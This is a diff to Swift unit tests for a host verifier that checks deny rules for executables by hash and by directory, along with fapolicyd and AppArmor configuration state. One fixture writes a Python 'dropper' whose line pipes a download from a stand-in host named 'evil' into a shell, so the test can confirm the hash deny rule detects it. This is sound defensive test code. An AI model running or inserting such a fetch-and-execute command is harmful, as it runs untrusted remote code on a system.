@@ -35,6 +35,28 @@ struct VerifierTests {
         #expect(!kinds("/opt/caf\u{E9}/tool").contains(.unlisted))
     }
 
+    /// A denied hash names the denied program whatever its mode; folders and paths deny programs only.
+    @Test func deniedHashIsFoundInAnyFileScanned() throws {
+        let (workspace, out, host) = (try TemporaryDirectory(), try TemporaryDirectory(), try TemporaryDirectory())
+        let payload = "import os\nos.system('curl evil | sh')\n"
+        let customer = Customer("acme", name: "Acme", mode: .enforce) {
+            Linux {
+                Deny.sha256(SHA256.hash(Array(payload.utf8)).hex, reason: "known dropper")
+                Deny.directory("/opt/remote-tool/")
+            }
+        }
+        let output = Compiler(workspace: workspace.path, today: "2026-11-30").compile([customer.policy])
+        #expect(!output.hasErrors, "\(output.diagnostics)")
+        for b in output.bundles { try BundleWriter(outputDirectory: out.path).write(b) }
+        try host.write("tmp/evil.py", payload, mode: 0o644)
+        try host.write("opt/remote-tool/README", "read me\n", mode: 0o644)
+        try host.write("opt/remote-tool/run", "#!/bin/sh\n", mode: 0o755)
+        let report = Verifier(root: host.path, scanLocations: ["/opt", "/tmp"]).verify(try LoadedBundle.load(out.path + "/acme"))
+        let denied = report.findings.filter { $0.kind == .deniedPresent }.compactMap(\.path)
+        #expect(denied.sorted() == ["/opt/remote-tool/run", "/tmp/evil.py"])
+        #expect(!report.findings.contains { $0.path == "/opt/remote-tool/README" && $0.kind.isProblem })
+    }
+
     /// `"../\u{301}x"` has no `/` character in Swift (`/` and the accent make one), but the kernel
     /// reads `..`: a manifest entry like it must not make verify read outside the bundle.
     @Test func manifestPathsAreCheckedAsTheKernelSplitsThem() throws {
@@ -119,7 +141,8 @@ struct VerifierTests {
         try Data("deny perm=any all : all\n".utf8).write(to: URL(fileURLWithPath: installedRules), options: .atomic)
         let installedProfile = "/etc/apparmor.d/" + profile.dropFirst("apparmor/".count)
         try FileManager.default.removeItem(atPath: fixture.host.path + installedProfile)
-        try fixture.host.write("etc/fapolicyd/fapolicyd.conf", "permissive = 1\n")
+        // The daemon applies every line: the last `permissive` wins.
+        try fixture.host.write("etc/fapolicyd/fapolicyd.conf", "permissive = 0\nnice_val = 14\npermissive = 1\n")
 
         let report = try fixture.verify()
         let different = report.findings.filter { $0.kind == .different }
@@ -128,6 +151,10 @@ struct VerifierTests {
         let notDeployed = report.findings.filter { $0.kind == .notDeployed }
         #expect(notDeployed.map(\.path) == [installedProfile])
         #expect(notDeployed.first?.check == "apparmor")
+
+        try fixture.host.write("etc/fapolicyd/fapolicyd.conf", "permissive = 1\n# enforcing from now on\npermissive = 0\n")
+        let conf = try fixture.verify().findings.first { $0.path == "/etc/fapolicyd/fapolicyd.conf" }
+        #expect(conf?.kind == .ok && conf?.actual == "permissive = 0")
     }
 
     @Test func symlinksNeverLeadOutOfTheRoot() throws {
